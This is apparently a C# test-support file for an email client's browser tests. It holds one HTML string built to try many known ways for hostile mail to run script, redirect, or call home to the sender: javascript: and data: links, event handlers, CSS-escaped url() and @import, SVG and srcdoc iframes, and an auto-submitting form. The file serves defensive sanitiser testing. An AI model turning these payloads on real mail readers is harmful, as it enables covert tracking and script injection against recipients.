namespace SmtpKit.Inbox.BrowserTests.Support;

/// <summary>
/// HTML that tries, by all ways that are known to us, to run something, to lead the page elsewhere, or to fetch something so that its sender hears of the reader.
/// </summary>
internal static class HostileMail
{
    /// <summary>What would be asked for when the mail is let do as it pleases, each by a path of its own.</summary>
    /// <param name="url">The sender's server, without a slash at the end.</param>
    public static string Html(string url) => $$"""
        <!DOCTYPE html><html><head>
        <base href="{{url}}/base/" target="_top">
        <meta http-equiv="refresh" content="0;url={{url}}/refresh">
        <META HTTP-EQUIV=Refresh CONTENT='0; URL={{url}}/refresh2'>
        <meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline'">
        <link rel="stylesheet" href="{{url}}/stylesheet.css">
        <link rel=alternate\ stylesheet href="{{url}}/alternate.css">
        <link rel="preload" as="image" href="{{url}}/preload.png">
        <link rel="stylesheet preload" as="style" href="{{url}}/both.css">
        <link rel="prefetch" href="{{url}}/prefetch">
        <link rel="prerender" href="{{url}}/prerender">
        <link rel="preconnect" href="{{url}}">
        <link rel="modulepreload" href="{{url}}/module.js">
        <link rel="icon" href="{{url}}/icon.png">
        <link rel="manifest" href="{{url}}/manifest.json">
        <script type="speculationrules">{"prefetch":[{"source":"list","urls":["{{url}}/speculation"]}]}</script>
        <script src="{{url}}/script.js"></script>
        <script type="module" src="{{url}}/module-script.js"></script>
        <script>
          document.documentElement.dataset.ran = 'script';
          try { parent.document.title = 'taken'; } catch { }
          try { top.location = '{{url}}/top'; } catch { }
          try { window.open('{{url}}/popup'); } catch { }
          try { alert('taken'); } catch { }
          fetch('{{url}}/fetch'); new Image().src = '{{url}}/image-object'; navigator.sendBeacon('{{url}}/beacon');
          new WebSocket('{{url}}/socket'.replace('http', 'ws')); new EventSource('{{url}}/events');
        </script>
        <style>
          @import url("{{url}}/import.css");
          @import "{{url}}/import-string.css";
          @\69mport url("{{url}}/import-escaped.css");
          @font-face { font-family: spy; src: url("{{url}}/font.woff2"); }
          @font-face { font-family: spy2; src: u\72l("{{url}}/font-escaped.woff2"); }
          .a { font-family: spy, spy2; background: url({{url}}/background.png); }
          .b { background: u\72 l({{url}}/space.png), \75rl("{{url}}/escaped.png"); }
          .c { background-image: image-set("{{url}}/set.png" 1x); list-style-image: url({{url}}/list.png); display: list-item; }
          .d { cursor: url({{url}}/cursor.png), auto; border-image: url({{url}}/border.png) 1; mask: url({{url}}/mask.svg#m); filter: url({{url}}/filter.svg#f); }
          .e::before { content: url({{url}}/content.png); }
          .f { background: URL(
            {{url}}/newline.png); }
          .g { background: var(--x, url({{url}}/variable.png)); shape-outside: url({{url}}/shape.png); float: left; width: 9px; height: 9px; }
          @media all { .h { background: url("{{url}}/media.png"); } }
          @supports (display: grid) { .h { border-image-source: url("{{url}}/supports.png"); } }
          input[value^="s"] { background: url({{url}}/value.png); }
          /* </style><img src="{{url}}/comment-end.png"> */
        </style>
        </head>
        <body background="{{url}}/body.png" onload="document.documentElement.dataset.ran = 'onload'" style="background-image: \75\72\6c({{url}}/style-escaped.png)">
        <h1>Read me</h1>
        <img src="{{url}}/img.png" onload="document.documentElement.dataset.ran = 'img'" onerror="document.documentElement.dataset.ran = 'onerror'">
        <img src="//{{url[7..]}}/relative.png"> <img src="\\{{url[7..]}}\backslash.png"> <img src="rel.png">
        <img src="x" srcset="{{url}}/srcset.png 1x"><picture><source srcset="{{url}}/source.png"><img src="y"></picture>
        <img src="&#104;ttp://{{url[7..]}}/entity.png"> <img src="ht
        tp://{{url[7..]}}/split.png"> <img loading="eager" lowsrc="{{url}}/low.png" dynsrc="{{url}}/dyn.png">
        <div class="a b c">a</div><div class="d">d</div><div class="e">e</div><div class="f g">f</div><div class="h">h</div>
        <table background="{{url}}/table.png"><tr><td background="{{url}}/cell.png">cell</td></tr></table>
        <iframe src="{{url}}/frame"></iframe>
        <iframe srcdoc="<script>parent.document.documentElement.dataset.ran = 'srcdoc'; fetch('{{url}}/srcdoc')</script><img src='{{url}}/srcdoc.png'>"></iframe>
        <iframe src="javascript:fetch('{{url}}/frame-javascript')"></iframe>
        <iframe src="data:text/html,<img src='{{url}}/data-frame.png'>"></iframe>
        <object data="{{url}}/object"></object> <embed src="{{url}}/embed"> <applet code="x" archive="{{url}}/applet.jar"></applet>
        <video src="{{url}}/video.mp4" poster="{{url}}/poster.png" autoplay muted></video> <audio src="{{url}}/audio.mp3" autoplay></audio>
        <video autoplay muted><source src="{{url}}/video-source.mp4"><track default src="{{url}}/track.vtt"></video>
        <svg xmlns="http://www.w3.org/2000/svg" onload="document.documentElement.dataset.ran = 'svg'">
          <image href="{{url}}/svg.png" width="9" height="9"/><image xlink:href="{{url}}/xlink.png" width="9" height="9"/>
          <use href="{{url}}/use.svg#a"/><script>document.documentElement.dataset.ran = 'svg script'</script>
          <style>@import url("{{url}}/svg-import.css"); rect { fill: url({{url}}/fill.svg#p); }</style><rect width="9" height="9"/>
          <filter id="f"><feImage href="{{url}}/fe.png"/></filter><circle r="9" filter="url(#f)"/>
          <a href="javascript:document.documentElement.dataset.ran = 'svg link'"><text y="20">svg</text></a>
          <animate attributeName="href" values="javascript:alert(1)" begin="0s"/><foreignObject width="9" height="9"><img src="{{url}}/foreign.png"></foreignObject>
        </svg>
        <math><mtext><img src="{{url}}/math.png"></mtext><annotation-xml encoding="text/html"><img src="{{url}}/annotation.png"></annotation-xml></math>
        <form id="form" action="{{url}}/form" method="get"><input name="q" value="secret" autofocus onfocus="document.documentElement.dataset.ran = 'onfocus'; form.submit()">
          <input type="image" src="{{url}}/input.png"><button id="send" formaction="{{url}}/formaction">Send</button></form>
        <details open ontoggle="document.documentElement.dataset.ran = 'ontoggle'"><summary>s</summary></details>
        <marquee onstart="document.documentElement.dataset.ran = 'onstart'">m</marquee>
        <div><template shadowrootmode="open"><img src="{{url}}/shadow.png"></template></div>
        <noscript><img src="{{url}}/noscript.png"></noscript>
        <a id="javascript" href="javascript:document.documentElement.dataset.ran='link';fetch('{{url}}/link')">A link</a>
        <a id="entity" href="&#x6A;ava&Tab;script:fetch('{{url}}/entity-link')">Another</a>
        <a id="data" href="data:text/html,<script>fetch('{{url}}/data-link')</script>" target="_self">Data</a>
        <a id="top" href="{{url}}/top-link" target="_top">Top</a> <a id="self" href="{{url}}/self-link" target="_self" ping="{{url}}/ping">Self</a>
        <!--[if mso]><img src="{{url}}/mso.png"><![endif]--> <![CDATA[<img src="{{url}}/cdata.png">]]>
        <p id="end">The end</p>
        </body></html>
        """;
}
